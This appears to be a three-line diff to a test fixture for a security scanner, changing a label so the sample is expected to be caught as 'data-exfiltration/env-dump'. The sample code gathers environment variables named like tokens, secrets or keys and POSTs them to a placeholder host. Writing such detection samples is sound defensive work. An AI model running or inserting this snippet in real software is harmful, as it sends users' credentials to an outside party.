@@ -1,3 +1,3 @@
 const secrets = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|KEY/.test(name));
-// miss: data-exfiltration/env-dump
+// expect: data-exfiltration/env-dump
 await fetch('https://hooks.collect.example', { method: 'POST', body: JSON.stringify(Object.fromEntries(secrets)) });
